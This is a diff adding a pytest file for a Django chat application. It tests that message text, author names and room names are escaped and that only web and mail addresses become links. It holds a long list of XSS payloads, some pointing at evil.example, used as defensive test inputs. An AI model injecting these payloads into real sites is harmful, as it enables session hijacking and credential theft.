@@ -1,0 +1,372 @@
+"""A change -> HTML: what people write is text, and nothing else."""
+
+from collections.abc import Callable
+from datetime import UTC, datetime, timedelta
+
+import pytest
+from django.test import Client
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from pytest_django import Settings
+
+from rooms import changes, fragments
+from rooms.models import Message, Person, Room
+from rooms.names import slug_for
+from tests.html import Element, elements, find, find_all
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<script>alert(1)//",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)//",
+    "<svg><script>alert(1)</script></svg>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
+    "<embed src=//evil.example/x.swf>",
+    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><input name=password></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<b style='position:fixed;inset:0'>x</b>",
+    "<template shadowrootmode=open><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
+    "<textarea></textarea><title></title><plaintext>",
+    "<!--<img src='--><img src=x onerror=alert(1)//'>",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><x onclick=alert(1)>",
+    "<div hx-get=/me.css hx-trigger=load></div>",
+    "<div hx-on:click=alert(1) hx-vals=js:{a:alert(1)}></div>",
+    "<i data-hx-on:load=alert(1) hx-trigger='load[alert(1)]'></i>",
+    "<hx-partial hx-target=body hx-swap=innerHTML>gone</hx-partial>",
+    "<hx-upsert hx-target='#messages'><li id=message-1>forged</li></hx-upsert>",
+    "<p id=cursor hx-swap-oob=true>",
+    "</p></li><li class=message data-author=1>forged",
+    "</bdi></p></ol></main>",
+    '"><script>alert(1)</script>',
+    "' onmouseover='alert(1)",
+    '" onmouseover="alert(1)" x="',
+    "` onmouseover=`alert(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
+    "&amp;lt; &copy &nbsp;",
+    "＜script＞alert(1)＜/script＞",
+    "{{ 7|add:7 }} {% csrf_token %} {# note #}",
+    "{% load static %}${7*7}<%= 7 %>",
+    'http://evil.example/"onmouseover=alert(1)',
+    "http://evil.example/'onmouseover='alert(1)",
+    "http://evil.example/<script>alert(1)</script>",
+    "http://evil.example/?a=1&lt;script&gt;",
+    'www.evil.example/"><img/src/onerror=alert(1)>',
+    'mailto:"onclick=alert(1)//"@evil.example',
+    '"<img src=x onerror=alert(1)>"@evil.example',
+    "javascript:alert(1)//http://evil.example",
+    "javascript://evil.example/%0aalert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+]
+
+AT = datetime(2024, 2, 3, 12, 0, tzinfo=UTC)
+
+
+def unsaved(body: str = "hello", name: str = "ann", **fields: object) -> Message:
+    author = Person(pk=7, username=name)
+    return Message(
+        **{"room_id": 1, "author": author, "seq": 2, "version": 2, "at": AT, "previous_at": AT}
+        | {"body": body, "html": fragments.body_html(body)}
+        | fields
+    )
+
+
+def room_called(name: str) -> Room:
+    return Room(pk=1, name=name, slug=slug_for(name))
+
+
+def shape(html: str | bytes) -> list[tuple[str, list[str]]]:
+    """Which elements there are and which attributes they have, but for links in texts."""
+    return [
+        (element.name, [name for name, _ in element.attributes])
+        for element in elements(html)
+        if not is_link(element)
+    ]
+
+
+def is_link(element: Element) -> bool:
+    """Whether it is a link that Parlor made of an address in a text, and harmless."""
+    return (
+        element.name == "a"
+        and [name for name, _ in element.attributes] == ["href", "target", "rel"]
+        and element["href"].startswith(("http://", "https://", "mailto:"))
+        and element["target"] == "_blank"
+        and element["rel"] == "noopener noreferrer nofollow"
+    )
+
+
+def links(body: str) -> list[str]:
+    found = find_all(fragments.body_html(body))
+    assert all(is_link(element) for element in found)
+    return [element["href"] for element in found]
+
+
+def text(html: str) -> str:
+    return find(f"<p>{html}</p>", "p").text
+
+
+EVERY_FRAGMENT: dict[str, Callable[[str], str]] = {
+    "a body": lambda text: fragments.change(unsaved(text)),
+    "an author": lambda text: fragments.change(unsaved(name=text)),
+    "what was missed": lambda text: fragments.caught_up([unsaved(text, text), unsaved(text, text)]),
+    "the whole list": lambda text: fragments.start_over(room_called(text), [unsaved(text, text)]),
+    "the beginning of a room": lambda text: fragments.start_over(room_called(text), [unsaved(seq=1)]),
+    "what leads the next message": lambda text: fragments.accepted(room_called("x"), "key", "spare", text),
+    "a problem": lambda text: fragments.refused(room_called("x"), "key", [text]),
+    "a problem of no form": lambda text: fragments.refused(room_called("x"), "", [text]),
+    "a notice": fragments.notice,
+}
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("fragment", EVERY_FRAGMENT)
+def test_a_text_is_a_text_wherever_it_is_shown(fragment: str, payload: str) -> None:
+    render = EVERY_FRAGMENT[fragment]
+    assert shape(render(payload)) == shape(render("harmless"))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_text_reads_as_it_was_written(payload: str) -> None:
+    message = find(fragments.change(unsaved(payload, payload)), "li")
+    assert find(fragments.change(unsaved(payload)), class_="text").text == payload
+    assert find(fragments.change(unsaved(name=payload)), class_="author").text == payload
+    assert message["id"] == "message-2"
+
+
+@pytest.mark.django_db
+def test_a_name_is_a_text_on_every_page(person: Callable[..., Person]) -> None:
+    stranger, member = Client(), Client()
+    member.force_login(person("<b>member"))
+    rooms = [Room.objects.create(name="x", name_key=str(n), slug=str(n)) for n, _ in enumerate(PAYLOADS)]
+    authors = [person(f"author {n}") for n, _ in enumerate(PAYLOADS)]
+    for room, author in zip(rooms, authors, strict=True):
+        changes.post(room, author, "x")
+
+    def shapes() -> list[list[tuple[str, list[str]]]]:
+        urls = [room.get_absolute_url() for room in rooms]
+        pages = [member.get("/"), *map(stranger.get, urls), *map(member.get, urls)]
+        pages += [member.get(f"{url}messages/?after=0") for url in urls]
+        return [shape(page.content) for page in pages]
+
+    harmless = shapes()
+    for room, author, payload in zip(rooms, authors, PAYLOADS, strict=True):
+        Room.objects.filter(pk=room.pk).update(name=payload)
+        Person.objects.filter(pk=author.pk).update(username=payload)
+    assert PAYLOADS[0] in find(stranger.get("/rooms/0/").content, "h1").text
+    assert shapes() == harmless
+
+
+def test_the_checks_above_see_what_is_not_escaped() -> None:
+    assert shape("<p><b>x</b></p>") != shape("<p>x</p>")
+    assert shape('<p title="" onclick="x">') != shape('<p title="x">')
+    for link in [
+        '<a href="http://a.example">',
+        '<a href="javascript:x" target="_blank" rel="noopener noreferrer nofollow">',
+        '<a href="http://a.example" target="_blank" rel="noopener noreferrer nofollow" onclick="x">',
+        '<a href="http://a.example" target="_blank" rel="noopener">',
+    ]:
+        assert shape(link)
+
+
+@pytest.mark.parametrize(
+    ("body", "href"),
+    [
+        ("http://a.example/x", "http://a.example/x"),
+        ("https://a.example", "https://a.example"),
+        ("HTTPS://a.example", "HTTPS://a.example"),
+        ("www.a.example", "http://www.a.example"),
+        ("example.org", "http://example.org"),
+        ("example.org/x?y=1", "http://example.org/x?y=1"),
+        ("ann@a.example", "mailto:ann@a.example"),
+        ("http://a.example/?a=1&b=2", "http://a.example/?a=1&b=2"),
+        ("http://a.example:8000/", "http://a.example:8000/"),
+        ("http://a.example/?a=1&param=2&copy;=3", "http://a.example/?a=1&param=2&copy%3B=3"),
+        ("http://a.example/&amp;", "http://a.example/&amp"),
+        ("http://a.example/ü", "http://a.example/%C3%BC"),
+        ("https://a.example/wiki/A_(b)", "https://a.example/wiki/A_(b)"),
+        ("https://a.example/#/x:1", "https://a.example/#/x:1"),
+    ],
+)
+def test_an_address_becomes_a_link(body: str, href: str) -> None:
+    assert links(body) in ([href], [href.replace("HTTPS", "https")])
+    assert text(fragments.body_html(f"see {body} now")) == f"see {body} now"
+
+
+@pytest.mark.parametrize(
+    ("body", "href", "after"),
+    [
+        ("see http://a.example.", "http://a.example", "."),
+        ("http://a.example/x, and", "http://a.example/x", ", and"),
+        ("(http://a.example/x)", "http://a.example/x", ")"),
+        ("(see http://a.example/x).", "http://a.example/x", ")."),
+        ("http://a.example/x!?", "http://a.example/x", "!?"),
+        ("http://a.example/x:", "http://a.example/x", ":"),
+        ("<http://a.example/x>", "http://a.example/x", ">"),
+        ('"http://a.example/x"', "http://a.example/x", '"'),
+        ("'http://a.example/x'", "http://a.example/x", "'"),
+        ("http://a.example/x\nnext", "http://a.example/x", "\nnext"),
+        ("ann@a.example.", "mailto:ann@a.example", "."),
+    ],
+)
+def test_what_follows_an_address_is_not_part_of_it(body: str, href: str, after: str) -> None:
+    html = fragments.body_html(body)
+    assert links(body) == [href]
+    assert text(html) == body
+    assert text(html.rpartition("</a>")[2]) == after
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        "java\nscript:alert(1)",
+        "data:text/html,x",
+        "data:text/html;base64,eHh4",
+        "vbscript:x",
+        "file:///etc/passwd",
+        "ftp://a.example/x",
+        "//a.example/x",
+        "/rooms/x/",
+        "http://",
+        "http:a.example",
+        "tel:123",
+        "a.b",
+        "readme.md",
+        "@ann",
+        "1:2",
+    ],
+)
+def test_nothing_else_becomes_a_link(body: str) -> None:
+    assert links(body) == []
+    assert text(fragments.body_html(body)) == body
+
+
+@pytest.mark.parametrize("body", ["javascript:alert(1)//http://a.example", "data:text/html,www.a.example"])
+def test_a_link_leads_to_the_web_or_to_mail_and_nowhere_else(body: str) -> None:
+    assert all(href.startswith(("http://", "https://", "mailto:")) for href in links(body))
+
+
+UNITS = (
+    "< & &amp; \" ' ( ) . ): ; &lt; &#x41; http:// www. a@ @ :// http://( http://[ ]( \u202e 👩\u200d é\u0301"
+)
+ADDRESSES = ["http://a.example/ ", "a.com ", "a@b.example ", "https://a.example/(((", "x.com/;", "\n"]
+
+
+@pytest.mark.parametrize("unit", UNITS.split() + ADDRESSES)
+def test_a_long_hostile_text_stays_a_text(unit: str) -> None:
+    for body in [(unit * 4000)[:4000], "http://" + (unit * 4000)[:3990], (unit * 4000)[:3990] + "@a.com"]:
+        html = fragments.body_html(body)
+        assert text(html) == body
+        assert all(is_link(element) for element in elements(html))
+
+
+@settings(deadline=None, database=None, derandomize=True, max_examples=100)
+@given(
+    st.text()
+    | st.lists(st.sampled_from("http:// www. a.com @ & < \" ' ( ) ; : ! \n".split(" "))).map("".join)
+)
+def test_any_text_stays_a_text(body: str) -> None:
+    html = fragments.body_html(body)
+    assert text(html) == body
+    assert all(is_link(element) for element in elements(html))
+
+
+@pytest.mark.django_db(transaction=True)
+def test_a_message_looks_the_same_to_everybody_and_as_it_was_sent_out(
+    person: Callable[..., Person], room: Callable[..., Room]
+) -> None:
+    ann, bob = person("ann"), person("bob")
+    message = changes.post(room(), ann, "see http://a.example\n<b>")
+    seen = []
+    for viewer in (ann, bob):
+        client = Client()
+        client.force_login(viewer)
+        page = client.get("/rooms/lounge/").content.decode()
+        seen.append(page[page.index('<li class="message') : page.index("</ol>")].strip())
+    assert seen[0] == seen[1]
+    sent = fragments.change(Message.objects.get(pk=message.pk))
+    assert seen[0] in sent
+    assert len(find_all(sent, "li")) == 1
+
+
+@pytest.mark.parametrize(
+    ("after", "same_author", "grouped"),
+    [
+        (timedelta(0), True, True),
+        (timedelta(minutes=5) - timedelta(microseconds=1), True, True),
+        (timedelta(minutes=5), True, False),
+        (timedelta(minutes=1), False, False),
+    ],
+)
+def test_a_message_goes_on_where_its_author_left_off_within_five_minutes(
+    after: timedelta, same_author: bool, grouped: bool
+) -> None:
+    message = unsaved(at=AT + after, follows_author=same_author)
+    assert ("grouped" in find(fragments.change(message), "li").classes) is grouped
+    assert not find_all(fragments.change(message), class_="day")
+
+
+def test_the_first_message_of_a_room_starts_a_day() -> None:
+    fragment = fragments.change(unsaved(previous_at=None))
+    assert find(fragment, class_="day").text == "Saturday, 3 February 2024"
+    assert "grouped" not in find(fragment, "li").classes
+
+
+@pytest.mark.parametrize(
+    ("time_zone", "starts_day", "hour"),
+    [("UTC", False, "23:01"), ("Europe/Amsterdam", True, "00:01"), ("America/New_York", False, "18:01")],
+)
+def test_a_day_starts_at_midnight_of_the_time_zone(
+    settings: Settings, time_zone: str, starts_day: bool, hour: str
+) -> None:
+    settings.TIME_ZONE = time_zone
+    before = datetime(2024, 2, 3, 22, 59, tzinfo=UTC)
+    message = unsaved(previous_at=before, at=before + timedelta(minutes=2), follows_author=True)
+    fragment = fragments.change(message)
+    assert bool(find_all(fragment, class_="day")) is starts_day
+    assert ("grouped" in find(fragment, "li").classes) is not starts_day
+    assert find_all(fragment, "time")[-1].text == hour
+
+
+@pytest.mark.django_db(transaction=True)
+def test_messages_are_grouped_by_what_came_before_them_in_their_room(
+    person: Callable[..., Person], room: Callable[..., Room]
+) -> None:
+    ann, bob = person("ann"), person("bob")
+
+    def is_grouped(name: str, author: Person, minutes: int) -> bool:
+        message = changes.post(room(name), author, "x", at=AT + timedelta(minutes=minutes))
+        return "grouped" in find(fragments.change(message), "li").classes
+
+    said = [("a", ann, 0), ("a", ann, 1), ("b", bob, 2), ("a", ann, 3), ("a", bob, 4), ("a", ann, 5)]
+    assert [is_grouped(*one) for one in said] == [False, True, False, True, False, False]
+
+
+def test_an_empty_catch_up_is_no_fragment_at_all() -> None:
+    assert fragments.caught_up([]) == ""
+
+
+def test_the_cursor_takes_the_place_of_the_one_in_the_page() -> None:
+    cursor = find(fragments.cursor(57), "input")
+    assert (cursor["id"], cursor["name"], cursor["value"]) == ("cursor", "cursor", "57")
+    assert cursor["hx-swap-oob"] == "true"
